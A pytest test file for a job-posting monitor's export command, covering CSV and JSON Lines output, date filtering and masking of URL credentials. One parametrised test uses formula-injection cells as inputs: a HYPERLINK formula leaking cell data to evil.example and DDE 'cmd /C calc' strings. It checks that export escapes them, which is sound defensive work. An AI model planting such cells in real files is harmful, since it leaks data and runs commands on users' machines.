"""`posting-monitor export`: postings, versions and changes as CSV and JSON Lines."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from monitor.cli import cli
from monitor.demo import FIRST_VERSION, REVISED_VERSION, SeedServer, seeds_dir
from monitor.export import COLUMNS, export_lines, read_columns


@pytest.fixture
def watched(tmp_path: Path, db_url: str) -> Iterator[tuple[Path, str]]:
    """A posting checked twice: versions 1 and 2, with the changes between them."""
    config = tmp_path / "monitor.toml"
    config.write_text(
        f"[database]\nurl = '{db_url}'\n[http]\nallowed_networks = ['127.0.0.1/32']\n",
        encoding="utf-8",
    )
    with SeedServer(seeds_dir(), FIRST_VERSION) as server:
        invoke(config, "watch", "add", server.url)
        invoke(config, "check")
        server.current = REVISED_VERSION
        invoke(config, "check")
        yield config, server.url


def invoke(config: Path, *args: str) -> Result:
    return CliRunner().invoke(cli, ["--config", str(config), *args], catch_exceptions=False)


def csv_rows(result: Result) -> list[dict[str, str]]:
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout)))


def test_changes_as_csv_carry_field_old_new_and_summary(watched: tuple[Path, str]) -> None:
    config, url = watched
    rows = csv_rows(invoke(config, "export", "--what", "changes"))
    assert list(rows[0]) == list(COLUMNS["changes"])
    assert {r["url"] for r in rows} == {url}
    fields = {r["field"] for r in rows}
    assert {"salary", "remote", "requirements.minimum"} <= fields
    pay = next(r for r in rows if r["field"] == "salary")
    assert pay["old"]
    assert pay["new"] != pay["old"]
    assert "%" in pay["summary"]
    assert all(datetime.fromisoformat(r["detected_at"]).tzinfo for r in rows)
    # The pay numbers, as numbers a spreadsheet or a chart reads (issue 26, item 5).
    assert (pay["old_pay_min"], pay["old_pay_max"]) == ("155700", "285600")
    assert (pay["new_pay_min"], pay["new_pay_max"]) == ("165000", "300000")
    assert (pay["pay_currency"], pay["pay_period"], pay["percent"]) == ("USD", "year", "6")
    other = next(r for r in rows if r["field"] == "remote")
    assert other["new_pay_min"] == other["percent"] == ""


def test_versions_are_numbered_per_posting_with_pay_as_text_and_numbers(
    watched: tuple[Path, str],
) -> None:
    config, _url = watched
    rows = csv_rows(invoke(config, "export", "--what", "versions"))
    assert [r["version"] for r in rows] == ["1", "2"]
    first, second = rows
    assert first["pay"] == "155700–285600 USD/year"
    assert (first["pay_min"], first["pay_max"], first["pay_currency"]) == (
        "155700",
        "285600",
        "USD",
    )
    assert second["pay_min"] != first["pay_min"]
    lines = invoke(config, "export", "--what", "versions", "--format", "jsonl").stdout
    records = [json.loads(line) for line in lines.splitlines()]
    assert [r["version"] for r in records] == [1, 2]
    assert records[0]["pay_min"] == 155700  # a number, not text
    assert isinstance(records[0]["locations"], list)
    assert records[1]["data"]["title"] == records[1]["title"]  # the whole stored posting


def test_postings_show_what_is_read_now(watched: tuple[Path, str], tmp_path: Path) -> None:
    config, url = watched
    out = tmp_path / "postings.csv"
    result = invoke(config, "export", "--what", "postings", "--output", str(out))
    assert result.exit_code == 0, result.output
    assert f"wrote 1 posting to {out}" in result.stderr
    with out.open(encoding="utf-8") as written:
        (row,) = csv.DictReader(written)
    versions = csv_rows(invoke(config, "export", "--what", "versions"))
    assert row["url"] == url
    assert row["pay"] == versions[-1]["pay"]  # the current version's
    assert row["last_outcome"] == "changed"


def test_since_keeps_later_rows_and_refuses_what_it_cannot_read(
    watched: tuple[Path, str],
) -> None:
    config, _url = watched
    tomorrow = (datetime.now(UTC) + timedelta(days=1)).date().isoformat()
    assert csv_rows(invoke(config, "export", "--what", "changes", "--since", tomorrow)) == []
    assert len(csv_rows(invoke(config, "export", "--what", "versions", "--since", "1d"))) == 2
    bad = CliRunner().invoke(cli, ["--config", str(config), "export", "--what", "changes",
                                   "--since", "last tuesday"])  # fmt: skip
    assert bad.exit_code == 2
    assert "--since" in bad.output
    assert "neither a date, a time nor a span" in bad.output


def test_since_at_a_version_keeps_it_and_what_follows_and_leaves_out_what_came_before(
    watched: tuple[Path, str],
) -> None:
    config, _url = watched
    first, second = csv_rows(invoke(config, "export", "--what", "versions"))
    assert first["captured_at"] < second["captured_at"]
    cutoff = second["captured_at"]  # the second version's own time: kept, the first not
    kept = csv_rows(invoke(config, "export", "--what", "versions", "--since", cutoff))
    assert [r["version"] for r in kept] == ["2"]
    changes = csv_rows(invoke(config, "export", "--what", "changes"))
    later = csv_rows(invoke(config, "export", "--what", "changes", "--since", cutoff))
    assert later == changes  # every change was found by the second check
    naive = datetime.fromisoformat(cutoff).astimezone(UTC).replace(tzinfo=None).isoformat()
    assert csv_rows(invoke(config, "export", "--what", "versions", "--since", naive)) == kept
    just_after = (datetime.fromisoformat(cutoff) + timedelta(microseconds=1)).isoformat()
    assert csv_rows(invoke(config, "export", "--what", "changes", "--since", just_after)) == []
    (posting,) = csv_rows(invoke(config, "export", "--what", "postings"))
    seen = posting["first_seen"]
    assert csv_rows(invoke(config, "export", "--what", "postings", "--since", seen)) == [posting]
    after = (datetime.fromisoformat(seen) + timedelta(microseconds=1)).isoformat()
    assert csv_rows(invoke(config, "export", "--what", "postings", "--since", after)) == []


def test_read_columns_cope_with_a_version_without_pay_or_lists() -> None:
    read = read_columns({"title": "Engineer", "salaries": []})
    assert read["pay"] == []
    assert read["pay_min"] is None
    assert read["locations"] == []
    assert read_columns(None)["title"] == ""


HOSTILE_CELLS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1, US",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\uff1dcmd|' /C calc'!A0",
)


@pytest.mark.parametrize("text", HOSTILE_CELLS)
def test_csv_cells_a_spreadsheet_would_run_are_shown_as_text(text: str) -> None:
    row = {"posting_id": 1, "url": "https://jobs.example/a", "title": text, "company": text,
           "locations": [text, "Berlin"], "pay_min": 120000, "pay_max": -5.5}  # fmt: skip
    lines = "".join(export_lines([row], "postings", "csv"))
    got = next(csv.DictReader(io.StringIO(lines, newline="")))
    assert got["title"] == "'" + text
    assert got["company"] == "'" + text
    assert got["locations"] == f"'{text}; Berlin"
    assert (got["pay_min"], got["pay_max"]) == ("120000", "-5.5")  # numbers stay numbers
    record = json.loads(next(iter(export_lines([row], "postings", "jsonl"))))
    assert record["title"] == text  # JSON Lines are data, not a spreadsheet: as they are


def test_exports_mask_credentials_in_watched_urls() -> None:
    url = "http://bob:UrlSecretPw@jobs.example/ok"
    row = {"posting_id": 1, "url": url, "data": {"url": url, "title": "x"}}
    for what, fmt in (("postings", "csv"), ("versions", "jsonl"), ("changes", "csv")):
        text = "".join(export_lines([row], what, fmt))
        assert "UrlSecretPw" not in text
        assert "bob:***@jobs.example" in text
